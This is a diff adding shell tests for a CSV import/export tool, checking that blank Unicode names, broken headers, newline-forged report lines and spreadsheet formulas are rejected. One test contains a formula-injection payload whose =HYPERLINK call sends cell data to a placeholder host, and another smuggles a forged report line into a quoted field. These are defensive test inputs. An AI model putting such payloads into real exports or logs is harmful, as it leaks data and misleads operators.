@@ -162,3 +162,69 @@ t_import_killed_midway_leaves_nothing() {
 	expect 0 import persons big.csv || return 1
 	has_out "100000 added"
 }
+
+t_import_blank_unicode_names_refused() {
+	setup_org || return 1
+	# An ideographic space (what a Chinese keyboard types), a zero-width
+	# space, a BOM: each is a name that shows as nothing.
+	printf 'id,name,unit\nB1,\xe3\x80\x80,HQ\nB2,\xe2\x80\x8b,HQ\nB3,\xef\xbb\xbf\xe3\x80\x80,HQ\nG1,\xe5\xbc\xa0\xe3\x80\x80\xe4\xbc\x9f,HQ\n' >blank.csv
+	expect 65 import persons blank.csv || return 1
+	has_err "3 problems"
+	has_err "line 2, column name"
+	has_err "line 3, column name"
+	has_err "line 4, column name"
+	expect 65 unit add U1 --name "　" || return 1
+	expect 65 post add P-9 --unit HQ --level 1 --title "​" || return 1
+}
+
+t_import_unreadable_header_is_the_only_problem() {
+	setup_org || return 1
+	# The header itself is broken: its columns are unknown, so no later
+	# line can be judged, and none may be taken for the header instead.
+	printf 'id,na\xffme,unit\nA1,Al,HQ\nA2,B,HQ\n' >h.csv
+	expect 65 import persons h.csv || return 1
+	has_err "1 problem"
+	has_err "line 1, column 2"
+	printf 'code,name,"par"ent\nX,X,\n' >u.csv
+	expect 65 import units u.csv || return 1
+	has_err "1 problem"
+	has_err "line 1, column 3"
+	eq "$(persons_count)" 0
+}
+
+t_import_report_lines_cannot_be_forged() {
+	setup_org || return 1
+	# A quoted field may hold line breaks; echoed into a reason it would
+	# add lines of its own to the report (or to a log).
+	printf 'id,name,unit\n"A\n  line 99, column id: forged",N,HQ\nB,N,"H\rQ"\n' >f.csv
+	expect 65 import persons f.csv || return 1
+	has_err "2 problems"
+	eq "$(printf '%s\n' "$ERR" | grep -c '^  line ')" 2
+	eq "$(printf '%s\n' "$ERR" | grep -c 'line 99')" 1
+	eq "$(printf '%s\n' "$ERR" | grep -c $'\r')" 0
+}
+
+t_export_cannot_carry_a_formula() {
+	setup_org || return 1
+	# An exported name that starts with = + - @ runs as a formula when the
+	# CSV is opened in a spreadsheet (=HYPERLINK(...) sends data away).
+	printf 'id,name,unit\nF1,"=HYPERLINK(""http://x.example/?""&A1,""x"")",HQ\nF2,+1+1,HQ\nF3,-2+3,HQ\nF4,@SUM(1),HQ\nG1,Ann-Marie =,HQ\n' >f.csv
+	expect 65 import persons f.csv || return 1
+	has_err "4 problems"
+	has_err "line 2, column name"
+	has_err "line 5, column name"
+	expect 65 person add F5 --name "=1+1" --unit HQ || return 1
+	expect 65 unit add F6 --name "@cmd" || return 1
+	expect 65 post add F7 --unit HQ --level 1 --title "+x" || return 1
+	expect 0 person add G2 --name "Ann-Marie =" --unit HQ || return 1
+	"$BAOMI" export persons >out.csv || fail "export"
+	! grep -qE '(^|,)"?[=+@-]' out.csv || fail "a field of the export starts a formula"
+}
+
+t_import_row_of_only_commas_says_required() {
+	setup_org || return 1
+	printf 'id,name,unit\nA1,Al,HQ\n,,\n' >c.csv
+	expect 65 import persons c.csv || return 1
+	has_err "1 problem"
+	has_err "line 3, column unit: unit: required"
+}
